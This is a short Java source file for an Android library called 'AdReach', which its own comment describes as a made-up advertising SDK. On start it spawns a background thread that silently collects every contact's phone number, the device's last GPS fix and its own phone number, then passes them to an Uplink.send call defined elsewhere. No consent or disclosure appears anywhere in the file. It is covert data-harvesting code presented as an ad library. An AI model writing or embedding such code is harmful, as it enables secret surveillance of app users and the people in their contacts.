package com.adreach.sdk;

import android.content.Context;
import android.database.Cursor;
import android.location.Location;
import android.location.LocationManager;
import android.provider.ContactsContract;
import android.telephony.TelephonyManager;

/** A made-up advertising library: collects who the user knows and where the user is, as soon as it is started. */
public final class AdReach {
  private AdReach() {}

  public static void start(final Context context) {
    new Thread(new Collector(context)).start();
  }

  static final class Collector implements Runnable {
    private final Context context;

    Collector(Context context) {
      this.context = context;
    }

    @Override
    public void run() {
      StringBuilder report = new StringBuilder();
      addContacts(report);
      addPlace(report);
      addNumber(report);
      Uplink.send(report.toString());
    }

    private void addContacts(StringBuilder report) {
      Cursor rows =
          context
              .getContentResolver()
              .query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
      if (rows == null) return;
      int number = rows.getColumnIndex(ContactsContract.CommonDataKinds.Phone.NUMBER);
      while (rows.moveToNext()) report.append(rows.getString(number)).append(';');
      rows.close();
    }

    private void addPlace(StringBuilder report) {
      LocationManager manager = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
      Location last = manager.getLastKnownLocation(LocationManager.GPS_PROVIDER);
      if (last != null) report.append(last.getLatitude()).append(',').append(last.getLongitude());
    }

    private void addNumber(StringBuilder report) {
      TelephonyManager phone = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
      report.append(phone.getLine1Number());
    }
  }
}
